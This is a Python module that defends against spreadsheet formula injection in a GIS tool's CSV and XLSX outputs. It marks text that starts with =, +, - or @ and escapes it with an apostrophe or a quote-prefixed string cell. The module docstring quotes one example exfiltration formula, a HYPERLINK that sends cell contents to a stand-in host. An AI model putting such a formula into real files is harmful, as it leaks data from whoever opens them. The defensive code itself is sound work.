"""Formula injection: the one place that decides which text a spreadsheet would run, and how
each spreadsheet-like output writes it as plain text instead.

Names come from uploaded project files and from zone layers, so a name such as
``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` must not become a live formula when a
reviewer opens the CSV or the workbook in Excel or WPS. Text that begins with ``=``, ``+``,
``-`` or ``@``, or with a tab or carriage return followed by one of them, is such text (OWASP,
"CSV Injection"). Numbers are never touched: a negative overlap stays a number.

* CSV: the cell gets the usual leading apostrophe (``'=1+1``): Excel and WPS show the text
  and never evaluate it.
* XLSX: the cell is stored as a string (never as a formula) with the quote-prefix style, so
  editing the cell in Excel keeps it text.

The GeoPackage (and the Shapefile/FileGDB outputs later issues add) are not neutralised on
purpose: they are data for GIS software, which does not evaluate attribute text, and an
apostrophe added there would change a feature's name, the key a user joins on. The JSON is
the contract and carries names exactly as given.
"""

from __future__ import annotations

from typing import Any

__all__ = ["is_formula_text", "csv_cell", "xlsx_cell"]

_TRIGGERS = ("=", "+", "-", "@")
_LEADING_BLANKS = ("\t", "\r")


def is_formula_text(value: object) -> bool:
    """True when ``value`` is text a spreadsheet would take for a formula.

    Examples
    --------
    >>> [is_formula_text(v) for v in ("=1+1", "\\t=1", "-2+3", "甲", -2.5, "")]
    [True, True, True, False, False, False]
    """
    if not isinstance(value, str) or not value:
        return False
    if value[0] in _LEADING_BLANKS:
        return value[1:2] in _TRIGGERS
    return value[0] in _TRIGGERS


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: formula-like text behind an apostrophe, anything else unchanged."""
    return "'" + value if is_formula_text(value) else value


def xlsx_cell(cell: Any) -> None:
    """Make an openpyxl cell holding formula-like text a plain string (data type ``s``,
    quote prefix); other cells are left as they are."""
    if is_formula_text(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
